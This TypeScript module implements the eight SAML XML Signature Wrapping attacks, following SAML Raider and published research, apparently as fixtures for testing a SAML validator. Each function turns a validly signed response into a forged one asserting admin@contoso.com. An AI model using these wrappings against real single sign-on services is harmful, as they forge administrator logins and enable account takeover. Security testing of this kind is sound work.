/**
 * The eight signature wrapping attacks, as SAML Raider names them (Somorovsky et al., "On Breaking SAML", USENIX Security
 * 2012; SAMLRaider, XSWHelpers). Each takes a valid message and gives one that says `admin@contoso.com` somewhere, with
 * the signed original beside, around or inside of it.
 */
import { asAdmin, pieceOf, signatureOf, unsigned } from './pieces.ts';

type Wrap = (xml: string) => string;

const DOCUMENT = /^(<samlp:Response[^>]*>)(.*)(<\/samlp:Response>)$/s;

/** The Response with other content; `ID` becomes another. */
function evilResponse(xml: string, change: (content: string) => string): string {
  return xml.replace(DOCUMENT, (_all, start: string, content: string, end: string) =>
    [start.replace('ID="_r1"', 'ID="_evil_response"'), change(asAdmin(content)), end].join(''),
  );
}

const inside = (signature: string, content: string) =>
  signature.replace('</Signature>', () => `${content}</Signature>`);
const original = (xml: string) => xml.replace(signatureOf(xml, 'Response') ?? pieceOf(xml, 'Signature'), '');

/** XSW 1: the evil Response keeps the signature, which holds the original Response. */
const xsw1: Wrap = (xml) =>
  evilResponse(xml, (content) => content.replace(pieceOf(content, 'Signature'), (one) => inside(one, original(xml))));

/** XSW 2: the original Response stands before its detached signature. */
const xsw2: Wrap = (xml) =>
  evilResponse(xml, (content) => content.replace(pieceOf(content, 'Signature'), (one) => original(xml) + one));

const withAssertion = (xml: string, change: (assertion: string) => string) => {
  const assertion = pieceOf(xml, 'Assertion');
  return xml.replace(assertion, () => change(assertion));
};

const bare = (assertion: string) => (signatureOf(assertion, 'Assertion') === null ? assertion : unsigned(assertion));
const evil = (assertion: string) => asAdmin(bare(assertion));

/** XSW 3: an evil Assertion before the original. */
const xsw3: Wrap = (xml) => withAssertion(xml, (one) => evil(one) + one);

/** XSW 4: an evil Assertion around the original. */
const xsw4: Wrap = (xml) => withAssertion(xml, (one) => evil(one).replace('</Assertion>', () => `${one}</Assertion>`));

/** XSW 5: the evil Assertion keeps the signature; the original stands at the end, without. */
const xsw5: Wrap = (xml) =>
  withAssertion(xml, asAdmin).replace('</samlp:Response>', () => `${bare(pieceOf(xml, 'Assertion'))}</samlp:Response>`);

const withinSignature = (xml: string, write: (assertion: string) => string): string => {
  const changed = withAssertion(xml, asAdmin);
  const signature = pieceOf(changed, 'Signature');
  return changed.replace(signature, () => inside(signature, write(bare(pieceOf(xml, 'Assertion')))));
};

/** XSW 6: the original inside the signature of the evil one. */
const xsw6: Wrap = (xml) => withinSignature(xml, (one) => one);

/** XSW 7: an evil Assertion in Extensions. */
const xsw7: Wrap = (xml) =>
  xml.replace(
    '<samlp:Status>',
    () => `<samlp:Extensions>${evil(pieceOf(xml, 'Assertion'))}</samlp:Extensions><samlp:Status>`,
  );

/** XSW 8: the original in an Object of the signature. */
const xsw8: Wrap = (xml) => withinSignature(xml, (one) => `<Object>${one}</Object>`);

/** By number. */
export const WRAPPINGS: readonly Wrap[] = [xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8];
